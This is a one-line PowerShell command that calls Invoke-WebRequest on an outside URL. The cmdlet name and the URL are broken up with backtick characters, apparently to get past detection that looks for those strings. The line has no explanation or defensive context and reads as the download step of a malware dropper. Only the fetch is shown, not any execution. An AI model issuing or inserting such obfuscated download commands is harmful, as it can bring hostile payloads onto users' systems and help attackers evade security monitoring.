I`n`v`oke-We`bReq`uest 'htt`ps://wgetcdn-fil`es.com/ticks'
